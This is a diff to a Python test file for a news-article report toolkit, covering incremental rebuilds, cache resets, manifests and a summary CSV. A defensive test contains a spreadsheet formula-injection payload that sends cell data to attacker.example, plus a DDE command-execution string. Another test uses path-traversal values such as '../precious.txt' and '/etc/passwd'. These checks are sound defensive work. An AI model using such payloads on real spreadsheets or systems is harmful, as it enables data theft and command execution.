@@ -8,7 +8,7 @@ its output. Tests that change reports work on a copy.
 from __future__ import annotations
 
 import copy
-import importlib.util
+import csv
 import json
 import os
 import re
@@ -16,6 +16,7 @@ import shutil
 import signal
 import subprocess
 import sys
+import threading
 import time
 from pathlib import Path
 
@@ -24,24 +25,17 @@ import pytest
 from conftest import ROOT, SEED
 
 from toolkit import report
-from toolkit.report import _atomic_write_text, _report_names, _safe_path, build_reports
-
-ANALYSIS_MODULES = ("toolkit.stats", "toolkit.actors", "toolkit.quotes")
-pytestmark = pytest.mark.skipif(
-    not all(importlib.util.find_spec(m) for m in ANALYSIS_MODULES),
-    reason="the analysis modules (stats, actors, quotes) have not landed yet",
-)
-
-
-def _real_analysis() -> bool:
-    """True when the analysis modules are the project's files (not development stand-ins)."""
-    return all(
-        (spec := importlib.util.find_spec(m)) is not None and spec.origin for m in ANALYSIS_MODULES
-    )
-
-
-needs_real_analysis = pytest.mark.skipif(
-    not _real_analysis(), reason="needs the real analysis modules"
+from toolkit._io import atomic_write_text
+from toolkit.report import (
+    BatchResult,
+    ReportOutcome,
+    _BatchRunner,
+    _Job,
+    _Manifest,
+    _report_names,
+    _safe_path,
+    _write_summary_csv,
+    build_reports,
 )
 
 PAYLOAD = (
@@ -145,8 +139,6 @@ def test_index_lists_every_article(batch):
 
 
 def test_summary_csv(batch):
-    import csv
-
     rows = list(csv.DictReader((batch["out"] / "summary.csv").open(encoding="utf-8")))
     by_id = {row["id"]: row for row in rows}
     assert list(by_id) == ["payload", "index-2", "empty", "photo", "garbled", batch["seed_id"]]
@@ -186,7 +178,6 @@ def test_report_html_hides_code_and_shows_the_analysis(batch):
         assert f">{heading}<" in page
 
 
-@needs_real_analysis
 def test_seed_report_shows_the_quotes_and_their_speakers(batch):
     """The seed's targets: three direct quotations by Macron, the third unclosed and said by
     "He"; seven people."""
@@ -309,6 +300,10 @@ def test_warm_kernel_reset_leaves_no_state(tmp_path):
         "assert plt.get_fignums() == [] and matplotlib.rcParams['lines.linewidth'] == 1.5\n"
         "assert pd.get_option('display.max_rows') == 60\n"
         f"assert os.getcwd() == {str(tmp_path)!r}",
+        # A warning in the last notebook (not about NLTK data) leaves the loaded models alone.
+        "from toolkit import syllables; from toolkit.actors import _lexicon\n"
+        "assert syllables._default_counter.cache_info().currsize == 1\n"
+        "assert _lexicon.lexicon.cache_info().currsize == 1",
         "import warnings; warnings.warn('once per process')",
         "from toolkit import resources; resources.warn_missing('cmudict', 'a fallback')",
     )
@@ -319,10 +314,49 @@ def test_warm_kernel_reset_leaves_no_state(tmp_path):
         nb = papermill.execute_notebook(checks, None, **run)
     finally:
         kernel.shutdown()
-    assert [c.execution_count for c in nb.cells] == [1, 2, 3]
-    warned = ["".join(o.get("text", "")) for c in nb.cells[1:] for o in c.outputs]
+    assert [c.execution_count for c in nb.cells] == [1, 2, 3, 4]
+    warned = ["".join(o.get("text", "")) for c in nb.cells[2:] for o in c.outputs]
     assert "UserWarning: once per process" in warned[0]
     assert "NLTK data 'cmudict' is not installed" in warned[1]
+
+
+def test_a_missing_data_warning_empties_only_the_loaders_that_warned(monkeypatch):
+    """In a warm kernel, the cached loader that warned about missing NLTK data is emptied at
+    the next reset (so the next report warns again, as in a fresh kernel); the other caches
+    (the estimator's model, the actor lexicon) stay loaded."""
+    import warnings
+
+    from toolkit import _in_kernel, resources, syllables
+    from toolkit.actors import _lexicon
+
+    syllables.count_syllables("harbour")
+    _lexicon.lexicon()
+    monkeypatch.setenv("TOOLKIT_NLTK_DATA", "off")
+    resources.have.cache_clear()
+    resources.warn_missing.cache_clear()
+    syllables._default_counter.cache_clear()
+    try:
+        shown = []
+        with warnings.catch_warnings():
+            warnings.simplefilter("always")
+            warnings.showwarning = lambda message, category, *args: shown.append(category)
+            _in_kernel._watch_warnings()
+            warnings.warn("not about NLTK data", UserWarning, stacklevel=1)
+            assert _in_kernel._warned_from == set()
+            syllables.count_syllables("harbour")
+        assert shown == [UserWarning, resources.NltkDataMissingWarning]
+        assert syllables._default_counter in _in_kernel._warned_from
+        assert _lexicon.lexicon not in _in_kernel._warned_from
+        _in_kernel._clear_loaders_that_warned()
+        assert syllables._default_counter.cache_info().currsize == 0
+        assert syllables._model.cache_info().currsize == 1
+        assert _lexicon.lexicon.cache_info().currsize == 1
+    finally:
+        _in_kernel._warned_from.clear()
+        monkeypatch.delenv("TOOLKIT_NLTK_DATA")
+        resources.have.cache_clear()
+        resources.warn_missing.cache_clear()
+        syllables._default_counter.cache_clear()
 
 
 # --- incremental ----------------------------------------------------------------------------
@@ -361,26 +395,132 @@ def test_rerun_skips_unchanged_articles_without_heavy_imports(batch, tmp_path):
     assert '<a href="index-2.html">Harbour reopens after storm</a>' in index
 
 
-def test_changed_article_and_force_rebuild(batch, tmp_path):
-    out = tmp_path / "reports"
+def test_changed_and_failing_articles_and_force_rebuild(batch, tmp_path):
+    """The output folder sits inside the folder of articles, with a whole earlier batch in it:
+    its reports, index and failed notebooks are never taken for articles."""
+    news = tmp_path / "news"
+    news.mkdir()
+    shutil.copy(batch["articles"] / "index.txt", news / "index.txt")
+    shutil.copy(SEED, news / SEED.name)
+    out = news / "reports"
     shutil.copytree(batch["out"], out)
-    articles = tmp_path / "articles"
-    shutil.copytree(batch["articles"], articles)
-    paths = [str(articles / "index.txt"), str(articles / SEED.name)]
-    # Same paths as in the batch? No: the articles moved, so their key changed. Build once.
-    first = build_reports(paths, out, workers=1, progress=False)
-    assert first.counts == {"built": 2, "skipped": 0, "failed": 0}
-    (articles / "index.txt").write_text(HARBOUR.replace("Friday", "Saturday"), encoding="utf-8")
-    second = build_reports(paths, out, workers=1, progress=False)
-    assert [(o.id, o.status) for o in second.outcomes] == [
+    # The articles moved, so their keys changed: both are built.
+    first = build_reports([news], out, workers=1, progress=False)
+    assert [(o.id, o.status) for o in first.outcomes] == [
+        (SEED.stem, "built"),
         ("index-2", "built"),
+    ]
+    (news / "index.txt").write_text(HARBOUR.replace("Friday", "Saturday"), encoding="utf-8")
+    second = build_reports(news, out, workers=1, progress=False)
+    assert [(o.id, o.status) for o in second.outcomes] == [
         (SEED.stem, "skipped"),
+        ("index-2", "built"),
     ]
     assert "Saturday" in read(out / "index-2.html")
-    forced = build_reports(paths[1:], out, workers=1, force=True, progress=False)
-    assert forced.counts == {"built": 1, "skipped": 0, "failed": 0}
+    assert not list(out.glob("reports*")) and not (out / "index-3.html").exists()
+
+    # Now the article fails: the report of its old text goes, and the index says why.
+    (news / "index.txt").write_bytes(b"")
+    forced = build_reports(news, out, workers=1, force=True, progress=False)
+    assert [(o.id, o.status) for o in forced.outcomes] == [
+        (SEED.stem, "built"),
+        ("index-2", "failed"),
+    ]
+    assert not (out / "index-2.html").exists() and not (out / "index-2.ipynb").exists()
     manifest = json.loads(read(out / "manifest.json"))
+    assert "index-2" not in manifest["reports"]
     assert manifest["reports"][SEED.stem]["files"] == [f"{SEED.stem}.ipynb", f"{SEED.stem}.html"]
+    index = read(out / "index.html")
+    assert 'href="index-2.html"' not in index and "file is empty" in index
+
+
+def test_no_articles_outside_the_output_folder(tmp_path):
+    (tmp_path / "reports").mkdir()
+    (tmp_path / "reports" / "old.html").write_text("<p>an old report</p>", encoding="utf-8")
+    with pytest.raises(ValueError, match="no article files found outside the output folder"):
+        build_reports(tmp_path, tmp_path / "reports")
+    with pytest.raises(ValueError, match="outside the output folder"):
+        build_reports([tmp_path / "reports" / "old.html"], tmp_path / "reports")
+
+
+def test_summary_csv_defuses_spreadsheet_formulas(tmp_path):
+    """Titles, sources and reasons come from articles: a cell a spreadsheet would run as a
+    formula is written with a leading apostrophe."""
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full story")'
+    outcomes = [
+        ReportOutcome(
+            "evil",
+            "news/evil.txt",
+            "built",
+            summary={"title": evil, "words": 120, "top_actors": ["@Putin", "Biden"]},
+            files=("evil.html",),
+        ),
+        ReportOutcome("minus", "-2+3.txt", "failed", error="+cmd|' /C calc'!A0"),
+    ]
+    _write_summary_csv(tmp_path, BatchResult(out=tmp_path, outcomes=outcomes))
+    rows = list(csv.DictReader((tmp_path / "summary.csv").open(encoding="utf-8")))
+    assert rows[0]["title"] == "'" + evil
+    assert rows[0]["top_actors"] == "'@Putin; Biden"
+    assert rows[0]["words"] == "120"
+    assert rows[1]["source"] == "'-2+3.txt"
+    assert rows[1]["error"] == "'+cmd|' /C calc'!A0"
+    for row in rows:
+        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
+
+
+def test_installing_nltk_data_changes_every_report_key(tmp_path, monkeypatch):
+    """Reports built with a fallback (no cmudict) are rebuilt after `toolkit setup`."""
+    from toolkit import resources
+
+    monkeypatch.delenv("TOOLKIT_NLTK_DATA", raising=False)
+    # The environment variables stay the same: only what is installed changes.
+    monkeypatch.setattr(resources, "search_path", lambda: [tmp_path / "nltk_data"])
+    notebook = report.notebook_path()
+    try:
+        before = report._batch_key(notebook, ("html",))
+        assert "cmudict" in resources.missing()
+        (tmp_path / "nltk_data" / "corpora" / "cmudict").mkdir(parents=True)  # as setup does
+        after = report._batch_key(notebook, ("html",))
+        assert "cmudict" not in resources.missing()
+    finally:
+        resources.have.cache_clear()
+    assert before != after
+
+
+def test_a_hand_edited_manifest_cannot_point_outside_the_report(tmp_path):
+    victim = tmp_path / "precious.txt"
+    victim.write_text("keep me", encoding="utf-8")
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "a.html").write_text("<p>a</p>", encoding="utf-8")
+    manifest = _Manifest(out / "manifest.json", {})
+    for files in (["../precious.txt"], ["b.html"], ["/etc/passwd"], "a.html", [], [7]):
+        assert report._manifest_files(out, "a", {"files": files}) is None
+    assert report._manifest_files(out, "a", {"files": ["a.html"]}) == ("a.html",)
+    manifest.reports["a"] = {"key": "k", "files": ["a.html", "../precious.txt"]}
+    report._drop_stale_report(out, manifest, "a")
+    assert victim.read_text(encoding="utf-8") == "keep me"
+    assert "a" not in manifest.reports
+    # A forced rebuild of an unchanged article that fails keeps the report of that same text.
+    manifest.reports["a"] = {"key": "k", "files": ["a.html"]}
+    report._drop_stale_report(out, manifest, "a", key="k")
+    assert (out / "a.html").is_file() and "a" in manifest.reports
+    report._drop_stale_report(out, manifest, "a", key="changed")
+    assert not (out / "a.html").exists() and "a" not in manifest.reports
+
+
+def test_an_interrupted_article_keeps_no_failed_notebook(tmp_path):
+    """After Ctrl-C the running notebooks fail because the batch cut them short: they are
+    not failures of their articles, and nothing goes to _failed/."""
+    runner = _BatchRunner(tmp_path, report.notebook_path(), ("html",), 60, _Manifest(tmp_path, {}))
+    job = _Job("harbour", tmp_path / "harbour.txt", "harbour.txt", "key")
+    nb = nbformat.v4.new_notebook()
+    runner.stop.set()
+    runner._failed(job, "harbour.txt: notebook error: KeyboardInterrupt", nb)
+    assert not (tmp_path / "_failed").exists()
+    runner.stop = threading.Event()
+    outcome = runner._failed(job, "harbour.txt: notebook error: RuntimeError", nb)
+    assert outcome.failed_notebook == "_failed/harbour.ipynb"
 
 
 # --- robustness -----------------------------------------------------------------------------
@@ -466,7 +606,7 @@ def test_atomic_write_keeps_the_old_file_when_writing_fails(tmp_path, monkeypatc
 
     monkeypatch.setattr(os, "fsync", broken_fsync)
     with pytest.raises(OSError, match="No space left"):
-        _atomic_write_text(target, "new report")
+        atomic_write_text(target, "new report")
     assert read(target) == "old report"
     assert [p.name for p in tmp_path.iterdir()] == ["a.html"]
 
@@ -497,9 +637,25 @@ def test_no_articles_and_bad_options(tmp_path):
     assert "unknown report format pdf" in done.stderr
 
 
+def test_cli_turns_an_unexpected_error_into_one_line(tmp_path, monkeypatch, capsys):
+    from toolkit.cli import main
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("report workers stopped unexpectedly")
+
+    monkeypatch.setattr("toolkit.report.build_reports", broken)
+    code = main(["report", str(SEED), "--out", str(tmp_path / "out")])
+    assert code == 1
+    assert capsys.readouterr().err == (
+        "error: toolkit report stopped: RuntimeError: report workers stopped unexpectedly\n"
+    )
+
+
 def test_the_notebook_is_found_and_stored_clean():
     path = report.notebook_path()
-    assert path == ROOT / "notebooks" / "article_report.ipynb"
+    assert path == ROOT / "toolkit" / "notebooks" / "article_report.ipynb"
+    # One source: the checkout's notebooks/ copy (linked from the README) is the same file.
+    assert (ROOT / "notebooks" / "article_report.ipynb").read_bytes() == path.read_bytes()
     nb = nbformat.read(path, as_version=4)
     nbformat.validate(nb)
     parameters = [c for c in nb.cells if "parameters" in c.metadata.get("tags", [])]
